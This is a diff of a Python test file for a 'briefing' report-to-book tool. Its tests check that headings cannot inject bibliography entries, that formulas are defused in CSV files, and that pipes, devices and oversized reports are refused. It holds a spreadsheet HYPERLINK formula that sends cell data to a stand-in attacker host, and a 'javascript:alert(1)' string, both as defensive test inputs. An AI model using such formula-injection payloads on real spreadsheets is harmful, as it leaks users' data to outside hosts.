@@ -31,10 +31,10 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
 
 
 def new_from(tmp_path: Path, report: Path | str, capsys) -> tuple[int, str, Path]:
-    """Run `briefing new` on a report into tmp_path/draft; return the exit code, the error output and the folder."""
+    """Run `briefing new` on a report into the book tmp_path/draft; return the exit code, the error output and its data folder."""
     out = tmp_path / "draft"
     code = main(["new", str(report), str(out)])
-    return code, capsys.readouterr().err, out
+    return code, capsys.readouterr().err, out / "data"
 
 
 def html_report(tmp_path: Path, heading: str) -> Path:
@@ -74,18 +74,13 @@ def test_a_heading_cannot_add_fields_or_entries_to_references_bib(tmp_path, caps
     bib = parse_file(str(out / "references.bib"), bib_format="bibtex")
     entry = bib.entries["report"]
     assert set(entry.fields) == {"title", "year", "note"} and set(entry.persons) == {"author"}
-    assert entry.fields["title"] == bib_text(heading)
+    assert entry.fields["title"] == bib_text(metadata_text(heading))  # generated from event.yml's title
     shown = str(RichText.from_latex(entry.fields["title"]))
     assert "javascript:alert(1)" not in "".join(e.fields.get("url", "") for e in bib.entries.values())
-    assert shown.replace(r"\textbraceleft ", "{").replace(r"\textbraceright ", "}") == heading
-    assert set(bib.entries) - {"report"} <= _book_keys()  # no entry of the heading's own
+    assert shown.replace(r"\textbraceleft ", "{").replace(r"\textbraceright ", "}") == metadata_text(heading)
+    assert set(bib.entries) == {"report"}  # no entry of the heading's own, none copied from this briefing
     assert load_dataset(out).event.title == metadata_text(heading)  # metadata refuses < > { } `: replaced, and noted
     assert "replaced: check" in (out / "event.yml").read_text(encoding="utf-8")
-
-
-def _book_keys() -> set[str]:
-    """Return the keys of the book's own references (the draft copies those its themes cite)."""
-    return set(parse_file(str(PROJECT_ROOT / "data" / "references.bib"), bib_format="bibtex").entries)
 
 
 def test_every_url_in_the_draft_references_is_http():
@@ -151,6 +146,10 @@ def test_the_review_file_and_accepted_links_defuse_formulas_and_keep_the_evidenc
     """Evidence beginning with '-' is defused in theme_suggestions.csv and contribution_themes.csv, and accepted verbatim."""
     code, err, out = new_from(tmp_path, formula_report(tmp_path), capsys)
     assert code == 0, err
+    (out / "themes.csv").write_text(  # a new book starts with no vocabulary: the editors write one
+        "id,label,category,definition\nclusters,Clusters,approach,Harbour clusters and regional innovation.\n",
+        encoding="utf-8",
+    )
     assert main(["suggest-themes", str(out), "--threshold", "0.01"]) == 0
     rows = raw_rows(out / REVIEW_FILE)
     dashed = [r for r in rows if r["evidence"].startswith("'-harbour")]
@@ -189,7 +188,7 @@ def test_a_pipe_is_refused_without_waiting_for_it(tmp_path, capsys, deadline):
     os.mkfifo(fifo)
     code, err, out = new_from(tmp_path, fifo, capsys)
     assert code == 1 and "is a pipe, not a report file" in err and "Nothing was written" in err
-    assert not out.exists()
+    assert not out.parent.exists()
 
 
 # /dev/null stands for every device: /dev/zero, the same kind, once ended in a MemoryError (and may kill the test run).
@@ -198,7 +197,7 @@ def test_devices_and_folders_are_refused(tmp_path, capsys, path, kind):
     """A device or a folder given as the report exits 1 with one line saying what it is, and it is never opened."""
     code, err, out = new_from(tmp_path, path, capsys)
     assert code == 1 and f"is {kind}, not a report file" in err and len(err.strip().splitlines()) == 1
-    assert not out.exists()
+    assert not out.parent.exists()
 
 
 def test_a_report_above_the_size_limit_is_refused_before_it_is_read(tmp_path, capsys, monkeypatch):
@@ -209,7 +208,7 @@ def test_a_report_above_the_size_limit_is_refused_before_it_is_read(tmp_path, ca
     monkeypatch.setattr(files.os, "read", None)  # nothing may read it (a 100 MB report once wrote a 171 MB folder)
     code, err, out = new_from(tmp_path, big, capsys)
     assert code == 1 and "is 5 MB, but a report may be at most 5 MB" in err
-    assert not out.exists()
+    assert not out.parent.exists()
 
 
 def test_a_report_is_read_only_up_to_the_limit(tmp_path, monkeypatch):
